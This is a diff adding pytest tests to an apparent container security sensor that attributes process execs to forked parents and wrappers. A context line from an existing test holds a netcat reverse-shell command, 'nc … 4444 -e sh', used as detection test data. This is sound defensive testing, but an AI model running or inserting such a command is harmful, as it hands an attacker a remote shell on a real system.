@@ -163,3 +163,66 @@ def test_busybox_applets_cannot_crowd_out_an_inline_shell(tmp_path: Path, fake_d
         ["sh", "-c", "nc 203.0.113.9 4444 -e sh"]
     ]
     assert sum(1 for e in v.execs if e.process.args == ["cat", "/etc/hostname"]) == 16
+
+
+def test_a_views_parent_that_only_forked_stands_for_its_own_parent(tmp_path: Path, fake_docker) -> None:
+    """SL-C2-001's subshell and wrapper chains: an exec whose parent exec'd
+    nothing the sensor saw is marked FORKED when that parent runs the same
+    file as its own parent (a fork: here, a fork of this test process),
+    else not (here: a child that exec'd `sleep`); its grandparent is read
+    while the parent lives."""
+    import os
+    import subprocess
+
+    from emulation.records import exec_args_rec, exec_rec
+    from sensor.detect.view import FORKED
+
+    w = _world(tmp_path, fake_docker)
+    obs = _Views()
+    w.pipe.observers.append(obs)
+    gone = 2**22 + 300
+    fork = os.fork()
+    if fork == 0:  # a copy of this process that execs nothing
+        import time
+
+        time.sleep(30)
+        os._exit(0)
+    other = subprocess.Popen(["sleep", "30"])
+    try:
+        for i, parent in enumerate((fork, other.pid)):
+            w.pipe.handle_raw(exec_args_rec(gone + i, w.cg, [b"sh", b"-c", b"id"]))
+            w.pipe.handle_raw(exec_rec(gone + i, w.cg, 1000 + i, b"sh", b"/bin/busybox", ppid=parent))
+        w.pipe.close_window([], 0.0, 1.0)
+    finally:
+        os.kill(fork, 9)
+        os.waitpid(fork, 0)
+        other.kill()
+        other.wait()
+    refs = {e.process.pid: e.process for e in obs.seen[-1].execs}
+    assert (refs[gone].gppid, refs[gone].parent) == (os.getpid(), FORKED)
+    assert (refs[gone + 1].gppid, refs[gone + 1].parent) == (os.getpid(), "")
+
+
+def test_the_kernels_ancestry_of_an_exec_is_used_first(tmp_path: Path, fake_docker) -> None:
+    """The exec record carries the grandparent and whether the parent
+    exec'd (read in the kernel while the parent lived): a parent gone
+    before user space reads the record is still a fork (FORKED) or a named
+    wrapper."""
+    from emulation.records import exec_args_rec, exec_rec
+    from sensor.detect.view import FORKED
+
+    w = _world(tmp_path, fake_docker)
+    obs = _Views()
+    w.pipe.observers.append(obs)
+    gone = 2**22 + 500  # no such processes: only the records speak
+    w.pipe.handle_raw(exec_rec(gone + 60, w.cg, 900, b"timeout", b"/usr/bin/timeout", ppid=gone + 70))
+    for i, (parent, execd) in enumerate(((gone + 50, False), (gone + 60, True), (gone + 61, True))):
+        w.pipe.handle_raw(exec_args_rec(gone + i, w.cg, [b"sh", b"-c", b"id"]))
+        w.pipe.handle_raw(
+            exec_rec(gone + i, w.cg, 1000 + i, b"sh", b"/bin/busybox", ppid=parent, gppid=77, parent_execd=execd)
+        )
+    w.pipe.close_window([], 0.0, 1.0)
+    refs = {e.process.pid: e.process for e in obs.seen[-1].execs}
+    assert (refs[gone].gppid, refs[gone].parent) == (77, FORKED)  # a subshell, gone
+    assert (refs[gone + 1].gppid, refs[gone + 1].parent) == (77, "timeout")  # a wrapper, by its exec
+    assert (refs[gone + 2].gppid, refs[gone + 2].parent) == (77, "")  # exec'd, unseen: no name
